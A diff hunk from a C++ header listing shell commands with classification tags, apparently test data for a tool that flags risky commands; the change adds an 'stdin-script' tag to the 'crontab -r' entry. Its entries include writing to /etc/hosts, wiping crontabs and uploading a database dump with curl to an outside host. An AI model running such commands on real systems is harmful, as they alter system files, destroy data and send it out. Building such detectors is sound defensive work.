@@ -116,7 +116,7 @@ inline const std::vector<ShippedLine> &shipped_lines() {
         {"echo x >> /etc/hosts",
          true,
          {{{"echo", "x"}, {}, {"read", "write"}, {}, {}, {"/etc/hosts"}, {}}}},
-        {"crontab -r", true, {{{"crontab", "-r"}, {}, {"destroy", "persistence"}, {}, {}, {}, {}}}},
+        {"crontab -r", true, {{{"crontab", "-r"}, {}, {"destroy", "persistence"}, {"stdin-script"}, {}, {}, {}}}},
         {"curl -T /srv/db.sql http://h/",
          true,
          {{{"curl", "-T", "/srv/db.sql", "http://h/"},
